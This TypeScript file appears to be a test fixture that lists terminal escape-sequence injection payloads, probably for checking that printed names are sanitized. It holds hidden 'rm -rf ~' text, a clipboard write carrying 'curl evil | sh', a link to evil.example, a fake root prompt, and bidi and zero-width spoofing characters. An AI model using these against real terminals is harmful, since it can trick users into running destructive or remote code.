/** Names by which an attacker tries to harm the terminal that prints them. */
export const payloads = {
  'hidden text': 'a\u001b[8mrm -rf ~\u001b[0mb',
  'the title of the window': '\u001b]0;owned\u0007x',
  'the clipboard': '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007x',
  'a link to elsewhere': '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'a cleared screen': '\u001b[2J\u001b[Hroot#',
  'a sequence in one byte': '\u009b2Jx\u009d0;owned\u009c',
  'a question to the terminal': '\u001b[6n\u001b[>c\u001bP$q"p\u001b\\',
  'a line that is overwritten': 'evil\rgood',
  'lines of its own': 'a\nb   Active   never\nc',
  'lines by other names': 'a\u2028b\u2029c\u0085d\u000bd\u000ce',
  'another direction': 'safe\u202egpj.exe',
  'another direction in part': 'a\u2067b\u2069\u2066c',
  'letters without width': 'ad\u200bmin\u200d\u2060\ufeff\u00ad\u3164',
  'text in tags': 'a\u{e0072}\u{e006d}\u{e007f}',
  'the bell and a backspace': 'ok\u0007\b\b',
} as const

export type Payload = keyof typeof payloads
export const payloadNames = Object.keys(payloads).filter((name): name is Payload => name in payloads)
